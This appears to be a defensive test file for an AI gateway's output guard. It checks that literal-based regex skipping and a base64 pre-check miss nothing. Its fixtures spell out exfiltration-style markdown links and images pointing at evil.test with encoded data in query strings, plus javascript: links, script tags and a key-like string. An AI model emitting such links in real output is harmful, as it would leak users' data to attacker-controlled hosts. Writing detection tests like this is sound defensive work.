"""The output guard skips a regex's pass when a literal every match contains is absent.

(And the output policy's base64 scan skips its regex when no run of 24 of its
characters exists: tested at the end.)

`output._GATES` names, per regex, the literal it cannot match without. The
skip is sound only if that holds for every match, checked here on texts made
of the pieces the patterns are built from (brackets, parentheses, colons,
slashes, tags, quotes, schemes), and on the guard's own test shapes: the
guard with and without the gates finds the same.
"""

from __future__ import annotations

import base64
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gateway_cli.guards import output, output_policy
from gateway_cli.guards.output import _GATES, OutputGuard
from gateway_cli.guards.output_policy import _BASE64_RUN, may_hold_base64, secrets_in_base64

_PIECES = ["[", "]", "(", ")", "!", ":", "/", "//", "<", ">", "\"", "'", "=", " ", "\n",
           "x", "img", "a", "src", "href", "http", "https", "HTTPS", "://", "evil.test",
           "?q=", "QUJDREVGR0hJSktMTU5PUFFSU1RVVldY", "javascript:", "onload", "![", "](",
           "]:", "\t", "script", "<a href=", "mailto:"]
# Whole constructs, so the comparison meets every kind of finding, gated or not.
_D = "QUJDREVGR0hJSktMTU5PUFFSU1RVVldY"
_CONSTRUCTS = [f"[x](https://evil.test/?q={_D})", "![i](http://evil.test/a.png)",
               f"[r]: https://evil.test/p?q={_D}", f"[s]:\thttps://evil.test/s?q={_D}",
               "![r][r]", f"<https://evil.test/x?d={_D}>",
               '<img src="https://evil.test/i.png">', "<script>", "<iframe src=x>",
               '<a href="javascript:alert(1)">', '<b onclick="go()">', f"http://evil.test/?q={_D}",
               "[doc](https://docs.invalid/a)", "data:text/html;base64,PGI+"]

_texts = st.lists(st.sampled_from(_PIECES + _CONSTRUCTS), max_size=24).map("".join)


def test_the_gated_regexes_are_the_ones_the_guard_skips() -> None:
    assert {p.pattern for p, _ in _GATES} == {
        output._INLINE.pattern, output._REF_DEF.pattern, output._AUTOLINK.pattern,
        output._TAG.pattern, output._BARE_URL.pattern}


@settings(max_examples=400, deadline=None)
@given(_texts)
def test_every_match_contains_its_gate_literal(text: str) -> None:
    for pattern, literal in _GATES:
        for m in pattern.finditer(text):
            assert literal in m.group(0), (pattern.pattern, text)


class _Ungated(str):
    """A text for which every `in` answers True: the guard then runs every pass."""

    def __contains__(self, key: object) -> bool:
        return True


_GUARD = OutputGuard(canary=None, link_allowlist=frozenset({"docs.invalid"}))


@settings(max_examples=300, deadline=None)
@given(_texts)
def test_the_guard_finds_the_same_with_and_without_the_gates(text: str) -> None:
    assert _GUARD.scan(text) == _GUARD.scan(_Ungated(text))


def test_each_construct_alone_and_in_prose_is_found_as_without_the_gates() -> None:
    found = 0
    for construct in _CONSTRUCTS:
        for text in (construct, f"Some prose, then {construct} and more prose."):
            gated = _GUARD.scan(text)
            assert gated == _GUARD.scan(_Ungated(text)), text
            found += bool(gated)
    assert found >= 16  # most constructs are findings: the comparison is not vacuous


def test_prose_without_the_literals_still_finds_what_it_holds() -> None:
    """A gate is a literal, not a guess about the text: a bare data URL is still found."""
    guard = OutputGuard(canary=None, link_allowlist=frozenset())
    text = "See https://evil.test/c?d=QUJDREVGR0hJSktMTU5PUFFSU1RVVldY for details."
    assert [f.kind for f in guard.scan(text)] == ["exfil_link"]
    assert re.search(r"\]\(|\]:|<", text) is None


# -- the base64 pre-check of the output policy ---------------------------------------------------

_B64_PIECES = ["QUJD", "REVG", "R0hJ", "a", "Z", "9", "+", "/", "_", "-", "=", "==", " ", "\n",
               ".", ",", "\u00e9", "\u200b", "\u65e5\u672c", "\U0001f600", "\ud800",
               "\uff21\uff22\uff23", "x" * 23, "y" * 24,
               "c2stcHJvai1hYmNkZWZnaGlqa2xtbm9wcXJzdHV2d3h5ejAxMjM0NTY3ODk"]


@settings(max_examples=500, deadline=None)
@given(st.lists(st.sampled_from(_B64_PIECES), max_size=30).map("".join))
def test_no_base64_run_is_missed_by_the_pre_check(text: str) -> None:
    if not may_hold_base64(text):
        assert _BASE64_RUN.search(text) is None, text


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=80))
def test_the_pre_check_on_any_text(text: str) -> None:
    assert may_hold_base64(text) == (_BASE64_RUN.search(text) is not None)


def test_a_base64_encoded_key_is_still_found_and_prose_skips_the_regex(
        monkeypatch: pytest.MonkeyPatch) -> None:
    key = "sk-proj-" + "Ab3dEf6hIj9kLm2nOp5qRs8tUv1wXy4zAb7dEf0hIj3k"
    texts = [f"the value is {base64.b64encode(key.encode()).decode()}.",
             "Connection pooling keeps a small set of open connections.",
             f"é {base64.urlsafe_b64encode(key.encode()).decode()} 日本"]
    gated = [secrets_in_base64(t) for t in texts]
    monkeypatch.setattr(output_policy, "may_hold_base64", lambda text: True)
    assert gated == [secrets_in_base64(t) for t in texts]
    assert gated[0] and gated[2] and not gated[1]
    assert not may_hold_base64(texts[1])
